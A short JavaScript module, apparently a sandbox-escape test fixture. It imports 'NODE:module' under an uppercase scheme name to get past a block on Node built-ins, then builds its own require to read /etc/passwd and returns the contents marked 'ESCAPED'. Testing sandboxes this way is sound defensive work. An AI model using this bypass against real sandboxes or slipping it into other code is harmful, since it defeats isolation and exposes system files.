// Gets node:fs through a require function of its own, under a name in capitals.
export default async () => {
  const { createRequire } = await import('NODE:module');
  return `ESCAPED ${createRequire('file:///tmp/x.js')('fs').readFileSync('/etc/passwd', 'utf8')}`;
};
